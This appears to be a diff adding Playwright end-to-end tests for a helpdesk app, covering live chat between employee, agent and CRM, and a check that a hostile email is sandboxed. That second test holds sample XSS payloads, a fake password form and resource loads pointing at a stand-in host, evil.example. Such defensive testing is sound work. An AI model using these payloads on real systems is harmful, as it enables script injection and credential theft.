@@ -1,0 +1,101 @@
+import type { Page } from 'playwright-core'
+import { expect, test } from 'vitest'
+import { NEW_TICKET } from '#test/new-tickets.ts'
+import { worldOfScreens } from './world-of-screens.ts'
+
+/** What is said on a ticket, by employees, agents and people in the CRM. */
+
+const world = await worldOfScreens()
+
+const said = (page: Page, text: string) => page.locator('[id^=message-]').filter({ hasText: text })
+
+async function ticketOfMaria(title: string): Promise<{ id: number; dealId: number }> {
+  const maria = await world.signIn('1001')
+  const answer = await maria.post('/api/v1/tickets', { ...NEW_TICKET, title })
+  // Its shape is held by the tests of the API.
+  const { id } = answer.body as { id: number }
+  await world.settle({ hurry: true })
+  const [row] = await world.sql<{ dealId: number }[]>`select deal_id as "dealId" from deals where id = ${id}`
+  return { id, dealId: row?.dealId ?? 0 }
+}
+
+async function says(page: Page, text: string): Promise<void> {
+  await page.getByLabel('Escreva uma mensagem').fill(text)
+  await page.getByRole('button', { name: 'Enviar', exact: true }).click()
+}
+
+test('employee, agent and CRM hear each other without a reload; a note stays with the team; nothing is lost or doubled offline', async () => {
+  const { id, dealId } = await ticketOfMaria('Impressora parada')
+  const line = await world.openLine()
+  const [maria, joao] = [await world.as('1001', { proxy: line.proxy }), await world.as('2001')]
+  await maria.goto(`/chamados/${id}`)
+  await joao.goto(`/quadro/${id}`)
+  await joao.getByText('ao vivo').waitFor()
+  await joao
+    .getByText(/Maria Santos está vendo|Maria Santos/)
+    .first()
+    .waitFor()
+  await says(joao, 'Já estou vendo.')
+  await said(maria, 'Já estou vendo.').waitFor()
+  await joao.getByText('Nota interna', { exact: true }).first().click()
+  await joao.getByLabel('Escreva uma nota para a equipe').fill('O toner acabou de novo.')
+  await joao.getByRole('button', { name: 'Enviar', exact: true }).click()
+  await said(joao, 'O toner acabou de novo.').waitFor()
+
+  const crm = await world.inCrm()
+  await crm.goto(`/deal/${dealId}`)
+  await crm.getByLabel('Autor').selectOption('Ana Costa')
+  await crm.getByRole('textbox', { name: 'Comentário' }).fill('O toner chega amanhã.')
+  await crm.getByRole('button', { name: 'Comentar' }).click()
+  await said(maria, 'O toner chega amanhã.').waitFor()
+  await said(joao, 'O toner chega amanhã.').waitFor()
+  await crm.getByLabel('Mover para').selectOption('Aguardando solicitante')
+  await crm.getByRole('button', { name: 'Mover', exact: true }).click()
+  await maria.getByText('Esperando você').first().waitFor()
+
+  line.cut()
+  await says(maria, 'Obrigada, eu espero.')
+  await maria.getByText('Não enviamos ainda.').waitFor()
+  await joao.getByText('Resposta', { exact: true }).click()
+  await says(joao, 'Combinado.')
+  line.mend()
+  await said(joao, 'Obrigada, eu espero.').waitFor()
+  await said(maria, 'Combinado.').waitFor()
+  await expect.poll(() => maria.getByText('Não enviamos ainda.').count(), { timeout: 60_000 }).toBe(0)
+  for (const page of [maria, joao]) expect(await page.getByText('Obrigada, eu espero.').count()).toBe(1)
+  expect(await maria.getByText('O toner acabou de novo.').count(), 'a note').toBe(0)
+  await world.settle({ hurry: true })
+  await crm.getByText('Obrigada, eu espero.').waitFor()
+  expect(await crm.getByText('O toner acabou de novo.').count(), 'a note').toBe(0)
+})
+
+test('a hostile mail is a mail: nothing of it runs, reaches out or leaves its frame', async () => {
+  const { id, dealId } = await ticketOfMaria('Proposta estranha')
+  const hostile = `<p>Bom dia, segue a proposta.</p>
+    <script>parent.pwned = 1</script><img src="x" onerror="parent.pwned = 1"><svg onload="parent.pwned = 1"></svg>
+    <img src="http://evil.example/pixel.png"><link rel="stylesheet" href="http://evil.example/a.css">
+    <style>body { background: url(http://evil.example/b.png) } </style>
+    <a href="javascript:parent.pwned = 1">Abrir</a><iframe src="javascript:parent.pwned = 1"></iframe>
+    <form action="http://evil.example/"><input name="senha"><button>Entrar</button></form>
+    <div style="position: fixed; inset: 0; background: red">Sua sessão terminou</div><base href="http://evil.example/">
+    <meta http-equiv="refresh" content="0; url=http://evil.example/">`
+  await world.person.mails(dealId, { SUBJECT: 'Proposta', DESCRIPTION: hostile })
+  await world.isQuiet()
+  for (const [matricula, address] of [
+    ['1001', `/chamados/${id}`],
+    ['2001', `/quadro/${id}`],
+  ] as const) {
+    const page = await world.as(matricula)
+    const asked: string[] = []
+    page.on('request', (request) => asked.push(request.url()))
+    await page.goto(address)
+    const frame = page.frameLocator('iframe[title^="Conteúdo do e-mail"]')
+    await frame.getByText('Bom dia, segue a proposta.').waitFor()
+    const link = frame.getByText('Abrir')
+    if ((await link.count()) > 0) await link.first().click()
+    expect(await page.evaluate('window.pwned ?? null')).toBe(null)
+    expect(await frame.locator('script, form, iframe, style, link, meta').count()).toBe(0)
+    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
+    expect(new URL(page.url()).pathname).toBe(address)
+  }
+})
